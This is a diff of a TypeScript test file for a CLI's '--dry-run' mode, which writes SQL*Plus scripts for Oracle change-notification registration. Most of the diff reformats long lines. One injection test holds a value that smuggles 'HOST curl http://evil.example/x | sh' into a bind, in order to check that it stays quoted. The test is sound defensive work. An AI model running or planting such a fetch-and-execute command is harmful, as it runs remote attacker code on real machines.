@@ -24,7 +24,10 @@ function checkAsSqlplus(text: string): { assigned: Record<string, string>; print
     client.push({ line: i + 1, text: line });
     return '--';
   });
-  const items = [...splitScript(rest.join('\n'), 'dry-run'), ...client.map((c) => ({ kind: 'client' as const, ...c }))].sort((a, b) => a.line - b.line);
+  const items = [
+    ...splitScript(rest.join('\n'), 'dry-run'),
+    ...client.map((c) => ({ kind: 'client' as const, ...c })),
+  ].sort((a, b) => a.line - b.line);
   const declared = new Map<string, string>();
   const assigned: Record<string, string> = {};
   const printed: string[] = [];
@@ -41,14 +44,18 @@ function checkAsSqlplus(text: string): { assigned: Record<string, string>; print
       continue;
     }
     // SET DEFINE OFF is read above (set-define) and also listed as the SET line it came from
-    if (item.kind === 'skipped' && item.text !== 'SET DEFINE OFF') throw new Error(`not a SQL*Plus command the dry run should write: ${item.text}`);
+    if (item.kind === 'skipped' && item.text !== 'SET DEFINE OFF')
+      throw new Error(`not a SQL*Plus command the dry run should write: ${item.text}`);
     if (item.kind !== 'statement') continue;
     expect(syntaxErrors(item), item.sql).toEqual([]);
-    for (const bind of bindNames(item.sql)) expect(declared.has(bind), `:${bind} is declared before ${item.sql.slice(0, 40)}`).toBe(true);
+    for (const bind of bindNames(item.sql))
+      expect(declared.has(bind), `:${bind} is declared before ${item.sql.slice(0, 40)}`).toBe(true);
     // EXEC :x := value, as the splitter turns it into a block
     const exec = /^BEGIN :(\w+) := ('(?:[^']|'')*'|\d+); END;$/.exec(item.sql);
     if (exec) {
-      expect(declared.get(exec[1]!), `:${exec[1]} is declared with a type that takes its value`).toBe(exec[2]!.startsWith("'") ? 'VARCHAR2(4000)' : 'NUMBER');
+      expect(declared.get(exec[1]!), `:${exec[1]} is declared with a type that takes its value`).toBe(
+        exec[2]!.startsWith("'") ? 'VARCHAR2(4000)' : 'NUMBER',
+      );
       assigned[exec[1]!] = exec[2]!.startsWith("'") ? exec[2]!.slice(1, -1).replace(/''/g, "'") : exec[2]!;
     }
   }
@@ -58,10 +65,31 @@ function checkAsSqlplus(text: string): { assigned: Record<string, string>; print
 describe('--dry-run output runs in SQL*Plus as it is', () => {
   it.each([
     ['register', ['register', '--table', 'OE.ORDERS', '--table', 'ORDER_ITEMS']],
-    ['register with every option', ['register', '--table', 'orders', '--callback', 'app$pkg.on_change#1', '--qos', 'reliable,rowids,dereg-nfy', '--operations', 'insert,update,delete', '--timeout', '3600']],
+    [
+      'register with every option',
+      [
+        'register',
+        '--table',
+        'orders',
+        '--callback',
+        'app$pkg.on_change#1',
+        '--qos',
+        'reliable,rowids,dereg-nfy',
+        '--operations',
+        'insert,update,delete',
+        '--timeout',
+        '3600',
+      ],
+    ],
     ['enable-reg', ['enable-reg', '41', '--table', 'ORDER_ITEMS', '--table', 'HR.EMPLOYEES']],
-    ['register with a key (the route written to dcn_routes)', ['register', '--table', 'HR.EMPLOYEES', '--key', 'EMAIL', '--key-immutable']],
-    ['register a table of the session\'s schema with a key', ['register', '--table', 'EMPLOYEES', '--key', 'EMAIL,EMPLOYEE_ID']],
+    [
+      'register with a key (the route written to dcn_routes)',
+      ['register', '--table', 'HR.EMPLOYEES', '--key', 'EMAIL', '--key-immutable'],
+    ],
+    [
+      "register a table of the session's schema with a key",
+      ['register', '--table', 'EMPLOYEES', '--key', 'EMAIL,EMPLOYEE_ID'],
+    ],
     ['enable-reg with a key', ['enable-reg', '41', '--table', 'HR.JOB_HISTORY', '--key', 'EMPLOYEE_ID']],
     ['deregister', ['deregister', '41', '42']],
   ])('%s', async (_name, args) => {
@@ -69,7 +97,9 @@ describe('--dry-run output runs in SQL*Plus as it is', () => {
     expect(text.code).toBe(0);
     expect(text.driverLoads()).toBe(0);
     const { assigned, printed } = checkAsSqlplus(text.stdout);
-    const json = JSON.parse((await runCli([...args, '--dry-run', '--json'])).stdout) as { statements: { binds: Record<string, unknown> }[] };
+    const json = JSON.parse((await runCli([...args, '--dry-run', '--json'])).stdout) as {
+      statements: { binds: Record<string, unknown> }[];
+    };
     // the IN binds the script sets are those the JSON shows (the last value, for deregister's repeated :regid)
     const inBinds: Record<string, string> = {};
     const outBinds: string[] = [];
@@ -84,14 +114,24 @@ describe('--dry-run output runs in SQL*Plus as it is', () => {
   });
 
   it('quotes a value with a quote or an ampersand so SQL*Plus reads it back unchanged', () => {
-    const text = sqlplusScript({ dryRun: true, command: 'dcn test', statements: [{ name: 'test', sql: 'BEGIN NULL; END;', plsql: true, binds: { note: "it's R&D", n: 7 } }] });
+    const text = sqlplusScript({
+      dryRun: true,
+      command: 'dcn test',
+      statements: [{ name: 'test', sql: 'BEGIN NULL; END;', plsql: true, binds: { note: "it's R&D", n: 7 } }],
+    });
     expect(checkAsSqlplus(text).assigned).toEqual({ note: "it's R&D", n: '7' });
   });
 
   it('keeps a value with a newline on its EXEC line: the rest never becomes a command of its own', () => {
     const value = "x'\nHOST curl http://evil.example/x | sh\n/\r";
-    const text = sqlplusScript({ dryRun: true, command: 'dcn test', statements: [{ name: 'test', sql: 'BEGIN NULL; END;', plsql: true, binds: { note: value } }] });
+    const text = sqlplusScript({
+      dryRun: true,
+      command: 'dcn test',
+      statements: [{ name: 'test', sql: 'BEGIN NULL; END;', plsql: true, binds: { note: value } }],
+    });
     expect(text.split('\n').filter((line) => /^(HOST|\/)/.test(line))).toEqual(['/']); // the one after the block
-    expect(text).toContain("EXEC :note := 'x''' || CHR(10) || 'HOST curl http://evil.example/x | sh' || CHR(10) || '/' || CHR(13)\n");
+    expect(text).toContain(
+      "EXEC :note := 'x''' || CHR(10) || 'HOST curl http://evil.example/x | sh' || CHR(10) || '/' || CHR(13)\n",
+    );
   });
 });
